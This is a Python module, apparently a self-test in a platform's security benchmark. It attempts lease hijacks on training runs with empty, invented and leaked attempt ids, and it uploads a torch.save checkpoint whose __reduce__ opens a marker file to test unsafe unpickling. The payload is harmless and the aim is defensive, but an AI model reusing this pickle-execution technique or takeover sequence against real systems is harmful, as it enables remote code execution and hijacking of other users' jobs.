"""Attack: a node token takes over another node's training run and uploads a planted pickle.

A GPU node is untrusted (docs/gpu-nodes.md): it holds a node token and, to receive work, the
broker URL, so it may see a run's attempt id. This attack tries, per try on a fresh run:

  "empty attempt"     a run another node (the victim) leases: POST .../claim/ with attempt "";
  "made-up attempt"   the same with an attempt it invented;
  "known attempt"     the same with the run's real attempt (the broker message gave it away), then,
                      whatever the lease answered, a heartbeat and a failure sent with the victim's
                      attempt and lease id: a run is its leaseholder's token's, and to any other
                      token it answers as a run that does not exist (404);
  "planted upload"    a queued run whose real attempt it knows (a broker message gave it), leased
                      as a node would, then a "checkpoint" uploaded that is a torch.save pickle
                      whose __reduce__ opens a marker file for writing, and the run finished on it.

After each try the platform's readers of a run's checkpoint are called on the run: the function
that serves the adversarial target's predictions to a writer and scores a round's next target in
the beat's round advance (adversarial.targets.load_run_model), in this process, with the server's
settings and database. A try succeeds when the attacker took over a run another node leased, or
when the marker file appeared (the pickle ran).

Setup (`setup`) runs Django against the server's database: the same environment as the server
(DATABASE_URL, DATA_DIR, SECRET_KEY, ...). It makes a small snapshot, two node tokens (victim,
attacker) and the runs (launched without a Celery message; the victim leases its runs over HTTP
with the attempt a broker message would give it).

    DATABASE_URL=... DATA_DIR=... SECRET_KEY=... \
        .venv/bin/python -m bench.attacks.node_takeover --base-url http://127.0.0.1:8810
"""

import argparse
import hashlib
import io
import json
import math
import os
import tempfile
import urllib.error
import urllib.request
import uuid
from pathlib import Path

NAME = "node-takeover"
CLAIM = "A node token takes over a run another node leases, or makes the platform unpickle code it uploaded."
VARIANTS = ("empty attempt", "made-up attempt", "known attempt", "planted upload")


class _Planted:
    """Unpickled, this opens (so creates) the marker file: proof that the platform ran the node's code."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (open, (self.marker, "w"))


def planted_checkpoint(marker):
    """A checkpoint as the old format wrote it (torch.save), with the planted object as its weights."""
    import torch

    buffer = io.BytesIO()
    torch.save(
        {
            "model": "cbow",
            "config": {"embedding_dim": 16, "hidden_dim": 16},
            "epoch": 1,
            "vocab": ["<pad>", "<unk>"],
            "labels": ["entailment", "neutral", "contradiction"],
            "state_dict": _Planted(str(marker)),
        },
        buffer,
    )
    return buffer.getvalue()


def _django():
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "annotation_site.settings")
    import django

    django.setup()


def setup(tries, seed=0):
    """Tokens, a snapshot and `tries` runs per variant; returns what the two nodes know."""
    _django()
    from modeling.models import NodeToken
    from modeling.training.services import launch_training_run
    from tests.modeling.gpu_node.helpers import learnable_splits, served_snapshot

    snapshot = served_snapshot(learnable_splits(seed, n_train=40, n_eval=8))
    tag = f"{seed}-{uuid.uuid4().hex[:8]}"  # token names are unique; the attack may be run again
    _, victim = NodeToken.issue(f"attack-victim-{tag}")
    _, attacker = NodeToken.issue(f"attack-attacker-{tag}")
    runs = []
    for variant in VARIANTS:
        for _ in range(tries):
            run = launch_training_run(snapshot, "cbow", config={"epochs": 1}, enqueue=False)
            runs.append({"variant": variant, "id": run.pk, "attempt": run.celery_task_id})
    return {"victim": victim, "attacker": attacker, "runs": runs}


def read_as_the_platform(run_id):
    """What the platform's readers do with a finished run's checkpoint (see the module docstring)."""
    from adversarial import targets
    from modeling.models import TrainingRun

    run = TrainingRun.objects.get(pk=run_id)
    if not run.checkpoint_sha256:
        return "no checkpoint recorded"
    targets.forget_loaded_models()
    try:
        targets.load_run_model(run)
    except Exception as error:  # a refusal is the expected outcome; anything else is reported
        return f"refused: {type(error).__name__}: {error}"[:300]
    return "loaded"


def _call(base_url, key, method, path, payload=None, body=None, headers=None):
    headers = {"Authorization": f"Worker {key}", **(headers or {})}
    if payload is not None:
        body = json.dumps(payload).encode()
        headers["Content-Type"] = "application/json"
    request = urllib.request.Request(base_url.rstrip("/") + path, data=body, headers=headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, json.loads(response.read() or b"{}")
    except urllib.error.HTTPError as error:
        text = error.read()
        try:
            return error.code, json.loads(text)
        except ValueError:
            return error.code, {"detail": text[:200].decode(errors="replace")}


def _lease(base_url, key, run_id, attempt, hostname):
    return _call(base_url, key, "POST", f"/api/worker/runs/{run_id}/claim/", {"attempt": attempt, "hostname": hostname})


def _heartbeat(base_url, key, run_id, attempt, lease_id):
    fields: dict[str, object] = {
        "epoch": 0,
        "total_epochs": 1,
        "step": 1,
        "total_steps": 2,
        "loss": 1.0,
        "dev_accuracy": None,
    }
    fields.update(history=[], device="cpu", attempt=attempt, claim=lease_id)
    return _call(base_url, key, "POST", f"/api/worker/runs/{run_id}/progress/", fields)[0]


def _plant_and_finish(base_url, key, run_id, attempt, lease_id, marker):
    body = planted_checkpoint(marker)
    headers = {
        "Content-Type": "application/octet-stream",
        "X-Attempt": attempt,
        "X-Claim": lease_id,
        "X-Content-SHA256": hashlib.sha256(body).hexdigest(),
    }
    uploaded, answer = _call(base_url, key, "PUT", f"/api/worker/runs/{run_id}/checkpoint/", body=body, headers=headers)
    results = {"accuracy": {"dev_matched": 0.99}, "dev_split": "dev_matched"}
    finished = _call(
        base_url,
        key,
        "POST",
        f"/api/worker/runs/{run_id}/finish/",
        {"attempt": attempt, "claim": lease_id, "results": results},
    )[0]
    return uploaded, finished, answer.get("detail", "")


def wilson(k, n, z=1.96):
    if n == 0:
        return None
    p = k / n
    centre = (p + z * z / (2 * n)) / (1 + z * z / n)
    half = z * math.sqrt(p * (1 - p) / n + z * z / (4 * n * n)) / (1 + z * z / n)
    return [round(max(0.0, centre - half), 4), round(min(1.0, centre + half), 4)]


def run(base_url, *, seed=0, tries=3):
    known = setup(tries, seed)
    victim, attacker = known["victim"], known["attacker"]
    marker_dir = Path(tempfile.mkdtemp(prefix="node-takeover-"))
    succeeded, took_over, ran, uploads, notes = 0, 0, 0, 0, []
    for index, run_ in enumerate(known["runs"]):
        run_id, real_attempt, variant = run_["id"], run_["attempt"], run_["variant"]
        marker = marker_dir / f"marker-{index}"
        victim_lease = None
        if variant != "planted upload":
            status, answer = _lease(base_url, victim, run_id, real_attempt, "victim@node")
            assert status == 200, (status, answer)
            victim_lease = answer["claim"]
            tried_attempt = {"empty attempt": "", "made-up attempt": "made-up-attempt"}.get(variant, real_attempt)
        else:
            tried_attempt = real_attempt
        status, answer = _lease(base_url, attacker, run_id, tried_attempt, "attacker@node")
        took = status == 200 and victim_lease is not None
        if status == 200:
            uploaded, finished, detail = _plant_and_finish(
                base_url, attacker, run_id, answer["attempt"], answer["claim"], marker
            )
            uploads += uploaded == 201
            if uploaded != 201:
                notes.append(f"{variant}: upload {uploaded} ({detail[:80]}), finish {finished}")
        if variant == "known attempt" and victim_lease is not None:
            # The victim's own ids, from another token: only the victim's token may use them.
            beat = _heartbeat(base_url, attacker, run_id, real_attempt, victim_lease)
            failed = _call(
                base_url,
                attacker,
                "POST",
                f"/api/worker/runs/{run_id}/fail/",
                {"attempt": real_attempt, "claim": victim_lease, "error": "taken"},
            )[0]
            took = took or beat == 200 or failed == 200
            notes.append(f"{variant}: the victim's lease from another token: heartbeat {beat}, fail {failed}")
        reading = read_as_the_platform(run_id)
        if victim_lease is not None:
            victim_goes_on = _heartbeat(base_url, victim, run_id, real_attempt, victim_lease) == 200
            took = took or not victim_goes_on
        planted_ran = marker.exists()
        took_over += took
        ran += planted_ran
        succeeded += took or planted_ran
        if index < len(VARIANTS) * tries and index % tries == 0:
            notes.append(f"{variant}: lease {status}, read: {reading[:90]}")
    n = len(known["runs"])
    return {
        "attack": NAME,
        "tries": n,
        "succeeded": succeeded,
        "measure": "share of tries that took over a run or ran the planted pickle",
        "value": round(succeeded / n, 4),
        "interval": wilson(succeeded, n),
        "at_chance_or_refused": succeeded == 0,
        "detail": f"took over {took_over}, pickle ran {ran}, planted uploads stored {uploads}; "
        + "; ".join(dict.fromkeys(notes)),
    }


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--base-url", default="http://127.0.0.1:8000")
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--tries", type=int, default=3, help="runs per variant")
    args = parser.parse_args()
    print(json.dumps(run(args.base_url, seed=args.seed, tries=args.tries), indent=2))


if __name__ == "__main__":
    main()
